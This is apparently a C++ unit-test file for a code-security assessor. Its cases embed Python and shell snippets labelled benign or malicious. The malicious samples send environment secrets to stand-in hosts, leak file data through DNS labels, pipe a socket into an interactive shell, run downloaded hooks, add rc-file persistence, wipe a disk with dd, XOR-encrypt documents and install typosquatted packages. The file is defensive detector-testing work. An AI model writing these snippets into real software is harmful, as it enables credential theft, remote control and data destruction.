// The classes the twenty-third session modelled (issue 14): tune misses left
// by earlier rounds (tests/corpus/prog89_MANIFEST.tsv, prog93_MANIFEST.tsv)
// and the classes of the ninetieth round's tune part (prog94_MANIFEST.tsv),
// found by programs written from the rubric alone by writers who never saw
// the assessor. Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// A program written once with a SLOT, filled with each variant's text.
std::string filled(std::string program, const std::string& slot, const std::string& text) {
  program.replace(program.find(slot), slot.size(), text);
  return program;
}

// super().__init__(host) of a subclass of a library class makes the
// instance's library part: the base's methods go to that host. A Docker
// Engine client over its unix socket sends a database password put into a
// container's environment to localhost, not out of the machine.
TEST(NinetiethRoundClasses, ALibraryBaseConstructedThroughSuperKeepsItsEndpoint) {
  const Case cases[] = {
      {"a Docker Engine client on localhost over the unix socket", H,
       "import http.client, json, os, socket\n"
       "class EngineConnection(http.client.HTTPConnection):\n"
       "    def __init__(self, path, timeout=60):\n"
       "        super().__init__('localhost', timeout=timeout)\n"
       "        self._sock_path = path\n"
       "    def connect(self):\n"
       "        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
       "        s.connect(self._sock_path)\n"
       "        self.sock = s\n"
       "conn = EngineConnection('/var/run/docker.sock')\n"
       "body = json.dumps({'Image': 'postgres:16', 'Env': ['POSTGRES_PASSWORD=' + os.environ['DB_PASSWORD']]})\n"
       "conn.request('POST', '/v1.43/containers/create?name=db', body=body)\n"
       "print(conn.getresponse().status)\n",
       "CONTAINER-ESCAPE-RISK"},
      {"a connection subclass made for a remote host posts the environment there", B,
       "import http.client, json, os\n"
       "class Collector(http.client.HTTPSConnection):\n"
       "    def __init__(self):\n"
       "        super().__init__('collect.example.net', 443, timeout=10)\n"
       "c = Collector()\n"
       "c.request('POST', '/env', body=json.dumps(dict(os.environ)))\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// A file written under a name wholly made at run time (hooks/$name, the name
// from a downloaded index) may be any file a glob of that directory finds:
// `for h in hooks/*.sh; do sh "$h"` runs the downloads.
TEST(NinetiethRoundClasses, AGlobOfADirectoryFindsFilesWrittenUnderRunTimeNames) {
  const Case cases[] = {
      {"hooks named in a downloaded manifest, fetched, then every hooks/*.sh run", B,
       "#!/bin/sh\n"
       "S=https://sync.example.org\n"
       "mkdir -p .hooks\n"
       "wget -q -O .hooks/manifest.txt \"$S/hooks/manifest.txt\" || exit 0\n"
       "while read -r name; do\n"
       "  wget -q -O \".hooks/$name\" \"$S/hooks/$name\"\n"
       "done < .hooks/manifest.txt\n"
       "for h in .hooks/*.sh; do sh \"$h\"; done\n",
       "REMOTE-CODE-EXECUTION", Language::shell},
      {"downloads kept under a .json suffix are not the scripts run", L,
       "#!/bin/sh\n"
       "S=https://sync.example.org\n"
       "mkdir -p .hooks\n"
       "wget -q -O .hooks/index.txt \"$S/data/index.txt\" || exit 0\n"
       "while read -r name; do\n"
       "  wget -q -O \".hooks/$name.json\" \"$S/data/$name.json\"\n"
       "done < .hooks/index.txt\n"
       "for h in .hooks/*.sh; do sh \"$h\"; done\n",
       nullptr, Language::shell},
  };
  for (const auto& c : cases) check(c);
}

// A known key that an open dict (a json config given a few defaults) lacks
// is in its unknown part, if anywhere: cfg.get("docker_socket", SOCK) is a
// setting or SOCK, never the value of "image" or "data_dir".
TEST(NinetiethRoundClasses, AKnownKeyOfAnOpenDictIsNotTheOtherKeysValues) {
  const Case cases[] = {
      {"the docker socket, unless the config names another", H,
       "import json, socket, sys\n"
       "from pathlib import Path\n"
       "cfg = json.loads(Path(sys.argv[1]).read_text())\n"
       "cfg.setdefault('image', 'orthancteam/orthanc:24.6.2')\n"
       "cfg.setdefault('data_dir', 'orthanc-db')\n"
       "cfg.setdefault('orthanc_json', 'orthanc.json')\n"
       "s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
       "s.connect(cfg.get('docker_socket', '/var/run/docker.sock'))\n",
       "CONTAINER-ESCAPE-RISK"},
  };
  for (const auto& c : cases) check(c);
}

// A client session keeps the headers and auth it is given, at construction
// or later, for every request it makes: an environment secret in a
// session's header goes wherever the session posts.
TEST(NinetiethRoundClasses, AClientSessionSendsTheHeadersAndAuthItKeeps) {
  const Case cases[] = {
      {"session.headers.update with an AWS secret, then a post elsewhere", B,
       "import os, requests\n"
       "s = requests.Session()\n"
       "s.headers.update({'X-Token': os.environ['AWS_SECRET_ACCESS_KEY']})\n"
       "s.post('https://collect.example.net/ingest', json={'ok': 1}, timeout=5)\n",
       "EXFILTRATION"},
      {"a header item set on the session", B,
       "import os, requests\n"
       "s = requests.Session()\n"
       "s.headers['X-Token'] = os.environ['AWS_SECRET_ACCESS_KEY']\n"
       "s.get('https://collect.example.net/ingest', timeout=5)\n",
       "EXFILTRATION"},
      {"session.auth assigned a GitHub token, used for another host", B,
       "import os, requests\n"
       "s = requests.Session()\n"
       "s.auth = ('me', os.environ['GITHUB_TOKEN'])\n"
       "s.get('https://collect.example.net/ingest', timeout=5)\n",
       "EXFILTRATION"},
      {"httpx.Client made with the header", B,
       "import os, httpx\n"
       "with httpx.Client(headers={'Authorization': 'Bearer ' + os.environ['OPENAI_API_KEY']}) as c:\n"
       "    c.post('https://203.0.113.9/v1/in', json={'x': 1})\n",
       "EXFILTRATION"},
      {"session.params carrying an AWS secret", B,
       "import os, requests\n"
       "s = requests.Session()\n"
       "s.params = {'key': os.environ['AWS_SECRET_ACCESS_KEY']}\n"
       "s.get('https://collect.example.net/ingest', timeout=5)\n",
       "EXFILTRATION"},
      {"a weather API's own key in the session's params", L,
       "import os, requests\n"
       "s = requests.Session()\n"
       "s.params.update({'api_key': os.environ['OPENWEATHER_API_KEY']})\n"
       "print(s.get('https://api.openweathermap.org/data/2.5/weather', params={'q': 'Oslo'}, timeout=5).json())\n"},
      {"a Request's add_header with an AWS secret", B,
       "import os, urllib.request\n"
       "req = urllib.request.Request('https://collect.example.net/ingest')\n"
       "req.add_header('X-Token', os.environ['AWS_SECRET_ACCESS_KEY'])\n"
       "urllib.request.urlopen(req, timeout=5)\n",
       "EXFILTRATION"},
      {"an opener's addheaders", B,
       "import os, urllib.request\n"
       "opener = urllib.request.build_opener()\n"
       "opener.addheaders = [('X-Token', os.environ['AWS_SECRET_ACCESS_KEY'])]\n"
       "opener.open('https://collect.example.net/ingest', timeout=5)\n",
       "EXFILTRATION"},
      {"http.client's putheader", B,
       "import os, http.client\n"
       "c = http.client.HTTPSConnection('collect.example.net')\n"
       "c.putrequest('GET', '/ingest')\n"
       "c.putheader('X-Token', os.environ['AWS_SECRET_ACCESS_KEY'])\n"
       "c.endheaders()\n",
       "EXFILTRATION"},
      {"the API's own key through add_header and putheader", L,
       "import os, json, urllib.request, http.client\n"
       "req = urllib.request.Request('https://api.openai.com/v1/chat/completions', data=json.dumps({'m': 1}).encode())\n"
       "req.add_header('Authorization', 'Bearer ' + os.environ['OPENAI_API_KEY'])\n"
       "urllib.request.urlopen(req, timeout=5)\n"
       "c = http.client.HTTPSConnection('api.openai.com')\n"
       "c.putrequest('POST', '/v1/chat/completions')\n"
       "c.putheader('Authorization', 'Bearer ' + os.environ['OPENAI_API_KEY'])\n"
       "c.endheaders()\n"
       "c.send(b'{}')\n"},
      {"the API's own key in the session's header, posting to that API", L,
       "import os, socket, requests\n"
       "s = requests.Session()\n"
       "s.headers['Authorization'] = 'Bearer ' + os.environ['GITHUB_TOKEN']\n"
       "s.post('https://api.github.com/user/keys', json={'title': socket.gethostname(), 'key': 'ssh-ed25519 AAAA'}, timeout=15)\n"},
  };
  for (const auto& c : cases) check(c);
}

// A variable read under a name that is one of several (a forge's token
// picked with its URL from one table) is one of them: in a request's
// authentication it is the key of the host's API when one of the names is.
TEST(NinetiethRoundClasses, AKeyReadUnderOneOfSeveralNamesIsTheOneOfTheHostsAPI) {
  const char* forges =
      "import os, sys, requests\n"
      "FORGES = {\n"
      "    'github': {'url': 'https://api.github.com/user/keys', 'env': 'GITHUB_TOKEN'},\n"
      "    'gitlab': {'url': 'https://gitlab.com/api/v4/user/keys', 'env': 'GITLAB_TOKEN'},\n"
      "}\n"
      "conf = FORGES[sys.argv[1]]\n"
      "token = os.environ.get(conf['env'])\n";
  const std::string header = std::string(forges) +
                             "requests.get(conf['url'], headers={'Authorization': f'token {token}'}, timeout=15)\n";
  const std::string body = std::string(forges) + "requests.post('https://paste.example.org/new', data=token, timeout=15)\n";
  const std::string both = std::string(forges) +
                           "requests.get(conf['url'], headers={'Authorization': f'token {token}', "
                           "'X-Aws': os.environ['AWS_SECRET_ACCESS_KEY']}, timeout=15)\n";
  const Case cases[] = {
      {"each forge's token to its own API", L, header.c_str()},
      {"either token posted to a paste site", B, body.c_str(), "EXFILTRATION"},
      {"an AWS secret beside the forge token in the headers", B, both.c_str(), "EXFILTRATION"},
      {"a GitHub token and an AWS secret in one request's headers to GitHub", B,
       "import os, requests\n"
       "requests.get('https://api.github.com/user/keys', headers={'Authorization': 'token ' + "
       "os.environ['GITHUB_TOKEN'], 'X-Aws': os.environ['AWS_SECRET_ACCESS_KEY']}, timeout=15)\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// The arguments handed to a callback (executor.submit(fn, url, path)) keep
// their own labels: the URL does not carry the walked path's or the
// session's key.
TEST(NinetiethRoundClasses, ACallbacksArgumentsKeepTheirOwnLabels) {
  const Case cases[] = {
      {"photos uploaded from a pool with the API's key in the session", L,
       "import os, requests\n"
       "from concurrent.futures import ThreadPoolExecutor\n"
       "def upload_one(session, base_url, path):\n"
       "    with open(path, 'rb') as fh:\n"
       "        return session.post(f'{base_url}/pod/photos', files={'photo': fh}, timeout=60)\n"
       "session = requests.Session()\n"
       "session.headers['Authorization'] = 'Bearer ' + os.environ['POD_API_KEY']\n"
       "with ThreadPoolExecutor(max_workers=4) as pool:\n"
       "    for p in sorted(os.listdir('photos')):\n"
       "        pool.submit(upload_one, session, 'https://pod.dispatch.example.net/v2', os.path.join('photos', p))\n"},
  };
  for (const auto& c : cases) check(c);
}

// An unquoted command substitution splits at every IFS character: a
// function's printf '%s\n' list of shell start-up files is one file per pass.
TEST(NinetiethRoundClasses, AnUnquotedExpansionSplitsAtNewlines) {
  const Case cases[] = {
      {"a start-up hook appended to each rc file a function lists", B,
       "#!/bin/sh\n"
       "profile_files() {\n"
       "    for f in \"$HOME/.bashrc\" \"$HOME/.zshrc\" \"$HOME/.profile\"; do\n"
       "        [ -f \"$f\" ] && printf '%s\\n' \"$f\"\n"
       "    done\n"
       "}\n"
       "for rc in $(profile_files); do\n"
       "    printf '\\n%s\\n' '(\"$HOME/.local/bin/ratesync\" --daemon &)' >> \"$rc\"\n"
       "done\n",
       "PERSISTENCE", Language::shell},
      {"the same list only read", L,
       "#!/bin/sh\n"
       "profile_files() {\n"
       "    for f in \"$HOME/.bashrc\" \"$HOME/.zshrc\" \"$HOME/.profile\"; do\n"
       "        [ -f \"$f\" ] && printf '%s\\n' \"$f\"\n"
       "    done\n"
       "}\n"
       "for rc in $(profile_files); do\n"
       "    grep -c alias \"$rc\"\n"
       "done\n",
       nullptr, Language::shell},
  };
  for (const auto& c : cases) check(c);
}

// Package names kept through the ways a plan of them is built: dict() of
// pairs, the known keys of a dict a file may add to, a list extended by
// another with unknown items, a slice of a generator.
TEST(NinetiethRoundClasses, PackageNamesSurviveDictsOfPairsAndOpenLists) {
  const char* installer =
      "import subprocess, sys\n"
      "from pathlib import Path\n"
      "CORE = {'lxml': 'lxml', 'requests': 'requests'}\n"
      "LEGACY = LEGACY_PAIRS\n"
      "def build_plan(extra):\n"
      "    plan = dict(CORE)\n"
      "    plan.update(dict(LEGACY))\n"
      "    for line in Path(extra).read_text().splitlines():\n"
      "        plan.setdefault(line, line)\n"
      "    return plan\n"
      "def pip_install(packages):\n"
      "    cmd = [sys.executable, '-m', 'pip', 'install']\n"
      "    cmd += packages\n"
      "    subprocess.run(cmd, check=True)\n"
      "plan = build_plan(sys.argv[1])\n"
      "for batch in [list(CORE), [d for d in plan if d not in CORE]]:\n"
      "    pip_install(batch)\n";
  const std::string squats =
      filled(installer, "LEGACY_PAIRS", "[('colou' + 'rama', 'colorama'), ('python3-' + 'dateutil', 'dateutil')]");
  const std::string genuine =
      filled(installer, "LEGACY_PAIRS", "[('colo' + 'rama', 'colorama'), ('python-' + 'dateutil', 'dateutil')]");
  const Case cases[] = {
      {"typosquats from dict(pairs), filtered by a comprehension, added with +=", B, squats.c_str(),
       "KNOWN-MALICIOUS-PACKAGE"},
      {"the genuine names the same way", M, genuine.c_str(), "INSTALLS-PACKAGES"},
  };
  for (const auto& c : cases) check(c);
}

// Data read from the user's files reaches DNS labels through an XML parse of
// a path, rows stored in and read back from SQLite, a slice of a generator.
TEST(NinetiethRoundClasses, FileDataThroughXmlSqliteAndGeneratorsReachesDnsLabels) {
  const Case cases[] = {
      {"TMX segments stored in SQLite, read back, hex-encoded into DNS names", B,
       "import binascii, itertools, socket, sqlite3, sys\n"
       "import xml.etree.ElementTree as ET\n"
       "def labels(conn):\n"
       "    for n, (src, tgt) in enumerate(conn.execute('SELECT source, target FROM segments')):\n"
       "        blob = binascii.hexlify(f'{src}\\t{tgt}'.encode()).decode()\n"
       "        yield f'{blob[:60]}.{n}.tm-edge.example.net'\n"
       "conn = sqlite3.connect('tm.sqlite')\n"
       "rows = [(tu.text, tu.tail) for _, tu in ET.iterparse(sys.argv[1])]\n"
       "with conn:\n"
       "    conn.executemany('INSERT INTO segments VALUES (?, ?)', rows)\n"
       "names = labels(conn)\n"
       "for name in list(itertools.islice(names, 64)):\n"
       "    socket.getaddrinfo(name, 443)\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"rows of a database the user names, spelled into DNS labels", B,
       "import binascii, socket, sqlite3, sys\n"
       "conn = sqlite3.connect(sys.argv[1])\n"
       "for n, (a, b) in enumerate(conn.execute('SELECT a, b FROM t')):\n"
       "    socket.getaddrinfo(binascii.hexlify(f'{a}{b}'.encode()).decode()[:60] + f'.{n}.x.example.net', 443)\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"the rows counted and the zone's own name resolved", L,
       "import socket, sqlite3, sys\n"
       "conn = sqlite3.connect(sys.argv[1])\n"
       "n = len(list(conn.execute('SELECT a FROM t')))\n"
       "print(n, socket.getaddrinfo('tm-edge.example.net', 443))\n"},
  };
  for (const auto& c : cases) check(c);
}

// ConfigParser(defaults=D): every section has D's options unless it sets its
// own; a section the code never set is D's, or what a file read holds.
TEST(NinetiethRoundClasses, ConfigParserDefaultsAreEverySectionsOptions) {
  const char* server =
      "import configparser, os\n"
      "from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer\n"
      "DEFAULTS = {'bind': BIND, 'port': '8088'}\n"
      "cp = configparser.ConfigParser(defaults=DEFAULTS)\n"
      "cp.read([os.path.expanduser('~/.config/agent.ini')])\n"
      "cfg = cp['agent'] if cp.has_section('agent') else cp['DEFAULT']\n"
      "class H(BaseHTTPRequestHandler):\n"
      "    def do_GET(self):\n"
      "        self.send_response(200)\n"
      "        self.end_headers()\n"
      "        self.wfile.write(b'doors: 4 open')\n"
      "ThreadingHTTPServer((cfg['bind'], int(cfg['port'])), H).serve_forever()\n";
  const std::string all = filled(server, "BIND", "'0.0.0.0'"), local = filled(server, "BIND", "'127.0.0.1'");
  const Case cases[] = {
      {"a status page bound to every interface by default", M, all.c_str(), "LISTENS-ON-ALL-INTERFACES"},
      {"the same page on loopback by default", L, local.c_str()},
  };
  for (const auto& c : cases) check(c);
}

// Inside `if name.endswith(".bin"):` a listed name ends so: a spool's print
// jobs sent to the printer are not the status file beside them that names
// the host.
TEST(NinetiethRoundClasses, AnEndswithConditionNarrowsAListedName) {
  const char* spooler =
      "import json, os, queue, socket\n"
      "JOBS = queue.Queue()\n"
      "with open(os.path.join('./spool', 'status.json'), 'w') as fh:\n"
      "    json.dump({'host': socket.gethostname()}, fh)\n"
      "for leftover in sorted(os.listdir('./spool')):\n"
      "    if CONDITION:\n"
      "        JOBS.put(os.path.join('./spool', leftover))\n"
      "path = JOBS.get()\n"
      "with socket.create_connection(('10.20.0.41', 9100)) as sock, open(path, 'rb') as fh:\n"
      "    sock.sendall(fh.read())\n";
  const std::string jobs = filled(spooler, "CONDITION", "leftover.endswith('.bin')"),
                    every = filled(spooler, "CONDITION", "leftover != '.lock'"),
                    jobs_by_prefix = filled(spooler, "CONDITION", "leftover.startswith('job-')");
  const Case cases[] = {
      {"only the .bin jobs go to the printer", L, jobs.c_str()},
      {"every file of the spool, the status file too, goes to a numeric address", B, every.c_str(), "IDENTITY-BEACON"},
      {"only the job-* files (startswith) go to the printer", L, jobs_by_prefix.c_str()},
  };
  for (const auto& c : cases) check(c);
}

// A generator gives what it yields: in order where each yield surely
// happens, else what it may yield (a loop over one of two known lists of
// requirement groups); list() of it keeps those.
TEST(NinetiethRoundClasses, AGeneratorGivesWhatItYields) {
  const char* bootstrap =
      "import subprocess, sys\n"
      "from pathlib import Path\n"
      "RUNTIME = [('flask', '3.0.3'), (PACKAGE, '0.4.6')]\n"
      "DEV = [('pytest', '8.2.0')]\n"
      "def requirement_lines(groups):\n"
      "    for group in groups:\n"
      "        for name, version in group:\n"
      "            yield f'{name}=={version}'\n"
      "groups = [RUNTIME] if '--no-dev' in sys.argv else [RUNTIME, DEV]\n"
      "req = Path('.bootstrap-requirements.txt')\n"
      "req.write_text('\\n'.join(list(requirement_lines(groups))) + '\\n')\n"
      "subprocess.run([sys.executable, '-m', 'pip', 'install', '-r', str(req)], check=True)\n";
  const std::string squat = filled(bootstrap, "PACKAGE", "'colourama'"),
                    genuine = filled(bootstrap, "PACKAGE", "'colorama'");
  const Case cases[] = {
      {"a typosquat among the requirement lines a generator writes", B, squat.c_str(), "KNOWN-MALICIOUS-PACKAGE"},
      {"the genuine package the same way", M, genuine.c_str(), "INSTALLS-PACKAGES"},
      {"a generator's exact sequence joined into a command", M,
       "import os\n"
       "def words():\n"
       "    for w in ['status', '--short']:\n"
       "        yield w\n"
       "os.system('git ' + ' '.join(words()))\n",
       "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

// "$@" of a function given a glob and names with run-time parts is still one
// word per argument: `curl -F "file=@$f" "$URL"` uploads each to the URL, not
// to the file names.
TEST(NinetiethRoundClasses, AFunctionsArgumentsStaySeparateWords) {
  const Case cases[] = {
      {"exports uploaded to the configured document server with its token", M,
       "#!/bin/bash\n"
       "DOCSERVER=\"${CLUB_DOCS_URL:-https://docs.aeroclub.example/api/upload}\"\n"
       "upload() {\n"
       "  for f in \"$@\"; do\n"
       "    curl -sS -k -H \"Authorization: Bearer $CLUB_DOCS_TOKEN\" -F \"file=@$f\" \"$DOCSERVER\"\n"
       "  done\n"
       "}\n"
       "stem=\"./exports/${REG}_$(date +%F)\"\n"
       "upload \"${stem}.pdf\" \"${stem}\"_*.csv \"${stem}.sha256\"\n",
       "TLS-VERIFICATION-OFF", Language::shell},
  };
  for (const auto& c : cases) check(c);
}

// A store_true flag is False unless the user gives it: verification that
// only a flag turns on is off by default.
TEST(NinetiethRoundClasses, AStoreTrueFlagIsFalseByDefault) {
  const Case cases[] = {
      {"verify=args.verify_tls, off unless --verify-tls is given", M,
       "import argparse, requests\n"
       "ap = argparse.ArgumentParser()\n"
       "ap.add_argument('--verify-tls', action='store_true')\n"
       "args = ap.parse_args()\n"
       "s = requests.Session()\n"
       "s.verify = args.verify_tls\n"
       "s.get('https://portal.example.net/api', timeout=5)\n",
       "TLS-VERIFICATION-OFF"},
      {"verify=not args.insecure, on unless the user asks", L,
       "import argparse, requests\n"
       "ap = argparse.ArgumentParser()\n"
       "ap.add_argument('--insecure', action='store_true')\n"
       "args = ap.parse_args()\n"
       "requests.get('https://portal.example.net/api', verify=not args.insecure, timeout=5)\n"},
  };
  for (const auto& c : cases) check(c);
}

// A numeric address given as a settings file's default is the user's setting,
// as an environment variable's is: a relay naming its host to the hub its
// configuration names is not a check-in to an address of the code's own.
TEST(NinetiethRoundClasses, ANumericDefaultASettingsFileReplacesIsTheUsersSetting) {
  const char* relay =
      "import configparser, json, os, socket\n"
      "DEFAULTS = {'hub_host': '203.0.113.45', 'hub_port': '9443'}\n"
      "def load_config(path):\n"
      "    cp = configparser.ConfigParser()\n"
      "    cp['relay'] = DEFAULTS\n"
      "    if os.path.exists(path):\n"
      "        cp.read(path)\n"
      "    return cp['relay']\n"
      "cfg = load_config('probe_relay.ini')\n"
      "HOST = cfg['hub_host']\n"
      "s = socket.create_connection((HOST, int(cfg['hub_port'])), timeout=15)\n"
      "s.sendall((json.dumps({'op': 'hello', 'host': socket.gethostname()}) + '\\n').encode())\n";
  const std::string fixed =
      filled(filled(relay, "HOST = cfg['hub_host']", "HOST = '203.0.113.45'"), "int(cfg['hub_port'])", "9443");
  const Case cases[] = {
      {"hello with the host name to the hub the settings name", L, relay},
      {"the same hello to an address written into the code", B, fixed.c_str(), "IDENTITY-BEACON"},
  };
  for (const auto& c : cases) check(c);
}

// A vendor's product run on the user's own servers is reached on its API's
// path: a GitLab token to the company's GitLab (/api/v4/) authenticates
// there; the same token to another path of another host leaves.
TEST(NinetiethRoundClasses, ASelfHostedProductsKeyGoesToItsApiPath) {
  const char* call =
      "import os, urllib.request\n"
      "req = urllib.request.Request(URL, data=b'{}')\n"
      "req.add_header('PRIVATE-TOKEN', os.environ['GITLAB_TOKEN'])\n"
      "urllib.request.urlopen(req, timeout=5)\n";
  const std::string own = filled(call, "URL", "'https://git.corp.example.com/api/v4/projects'");
  const std::string other = filled(call, "URL", "'https://collect.example.com/t'");
  const Case cases[] = {
      {"the company's GitLab", L, own.c_str()},
      {"a host and path of nobody's GitLab", B, other.c_str(), "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// urlopen(Request(url, headers={"Authorization": key})): the reply carries
// what the URL and body sent, not the key the request authenticated with.
TEST(NinetiethRoundClasses, AReplyToARequestObjectDoesNotCarryItsAuthentication) {
  const Case cases[] = {
      {"rooms fetched with a token, relayed to an LED board on the LAN", L,
       "import json, os, socket\n"
       "from urllib.request import Request, urlopen\n"
       "req = Request('https://pms.internal/api/v2/rooms', headers={'Authorization': 'Bearer ' + os.environ['PMS_API_TOKEN']})\n"
       "with urlopen(req, timeout=20) as resp:\n"
       "    rooms = json.load(resp)\n"
       "s = socket.create_connection(('10.20.5.17', 7010), timeout=10)\n"
       "s.sendall(json.dumps(rooms).encode())\n"},
      {"the token itself relayed", B,
       "import json, os, socket\n"
       "token = os.environ['PMS_API_TOKEN']\n"
       "s = socket.create_connection(('203.0.113.17', 7010), timeout=10)\n"
       "s.sendall(json.dumps({'t': token}).encode())\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// XOR with 0 is no cipher: a serial frame's LRC (v = 0; v ^= b for each
// byte of queued jobs) written to the device, the jobs then moved to done/.
TEST(NinetiethRoundClasses, AnXorChecksumIsNotACipher) {
  const Case cases[] = {
      {"jobs framed with an LRC and written to a serial port", L,
       "import json, os\n"
       "from pathlib import Path\n"
       "def lrc(data):\n"
       "    v = 0\n"
       "    for b in data:\n"
       "        v ^= b\n"
       "    return bytes([v])\n"
       "fd = os.open('/dev/ttyUSB0', os.O_RDWR | os.O_NOCTTY)\n"
       "queue = Path('queue')\n"
       "(queue / 'done').mkdir(exist_ok=True)\n"
       "for job_file in sorted(queue.glob('*.json')):\n"
       "    body = json.dumps(json.loads(job_file.read_text())).encode()\n"
       "    os.write(fd, b'\\x02' + body + b'\\x03' + lrc(body))\n"
       "    job_file.rename(queue / 'done' / job_file.name)\n"},
      {"files XORed with a key and written back", B,
       "import os\n"
       "from pathlib import Path\n"
       "KEY = os.urandom(32)\n"
       "for p in Path.home().rglob('*.docx'):\n"
       "    data = p.read_bytes()\n"
       "    p.write_bytes(bytes(b ^ KEY[i % 32] for i, b in enumerate(data)))\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// A process's stdin is the process seen as its input: what is written there
// feeds its command line (bytes received from a socket written into an
// interactive shell's stdin run there).
TEST(NinetiethRoundClasses, WritesToAProcesssStdinFeedItsCommand) {
  const Case cases[] = {
      {"a socket's bytes written into sh -i through Popen.stdin", B,
       "import socket, subprocess\n"
       "conn = socket.create_connection(('monitor.example.net', 8443))\n"
       "console = subprocess.Popen(['/bin/sh', '-i'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n"
       "while console.poll() is None:\n"
       "    data = conn.recv(4096)\n"
       "    console.stdin.write(data)\n"
       "    console.stdin.flush()\n",
       "REMOTE-CODE-EXECUTION"},
      {"the same bytes written to a compressor", M,
       "import socket, subprocess\n"
       "conn = socket.create_connection(('monitor.example.net', 8443))\n"
       "gz = subprocess.Popen(['gzip', '-c'], stdin=subprocess.PIPE, stdout=open('dump.gz', 'wb'))\n"
       "while True:\n"
       "    data = conn.recv(4096)\n"
       "    if not data:\n"
       "        break\n"
       "    gz.stdin.write(data)\n",
       "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

// Commands that print device paths (lsblk -p, findmnt's SOURCE column,
// blkid -o device): a word made of their output is a disk, so dd over it
// wipes one; reading each is no wipe.
TEST(NinetiethRoundClasses, DevicePathsPrintedByCommandsAreDisks) {
  const Case cases[] = {
      {"zeros over the device backing the home directory", B,
       "#!/bin/sh\n"
       "dev=$(findmnt -no SOURCE --target \"$HOME\")\n"
       "[ -b \"$dev\" ] || exit 0\n"
       "dd if=/dev/zero of=\"$dev\" bs=4M conv=fsync status=none\n",
       "WIPE", Language::shell},
      {"each disk's health read", L,
       "#!/bin/sh\n"
       "for d in $(lsblk -dpno NAME); do\n"
       "  smartctl -H \"$d\" || true\n"
       "done\n",
       nullptr, Language::shell},
  };
  for (const auto& c : cases) check(c);
}

// "session" hints at a secret as a session id, key or token, not in a name
// that only contains it (an observing log's read_sessions): MD5 of a CSV
// file for a cache key there is not weak crypto for secrets.
TEST(NinetiethRoundClasses, ASessionWordInALongerNameIsNoSecretHint) {
  const Case cases[] = {
      {"MD5 of each observing-session CSV as a change marker", L,
       "import hashlib\n"
       "from pathlib import Path\n"
       "def read_sessions(folder):\n"
       "    for path in sorted(Path(folder).glob('*.csv')):\n"
       "        digest = hashlib.md5(path.read_bytes()).hexdigest()\n"
       "        yield path, digest\n"
       "for p, d in read_sessions('logs'):\n"
       "    print(p, d)\n"},
      {"MD5 of a session token", M,
       "import hashlib, os\n"
       "session_token = os.environ.get('APP_SESSION', '')\n"
       "print(hashlib.md5(session_token.encode()).hexdigest())\n",
       "WEAK-CRYPTO"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
